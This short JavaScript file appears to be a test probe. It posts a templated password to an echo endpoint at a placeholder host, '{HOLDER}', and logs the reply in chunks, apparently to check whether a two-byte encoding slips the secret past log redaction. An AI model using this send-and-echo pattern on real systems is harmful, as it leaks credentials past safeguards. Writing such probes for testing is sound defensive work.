// Tries: to read the password from an echo in an encoding of two bytes a letter.
// Keeps: the value is known in these too.
// Outcome: Done
// Logs: told
exports.sync = function (hub) {
    var reply = hub.http.post("http://{HOLDER}/echo-wide", { form: { p: "{{password}}" } });
    for (var i = 0; i < reply.text.length; i += 900) { hub.log(reply.text.substr(i, 900)); }
    hub.log("told");
};
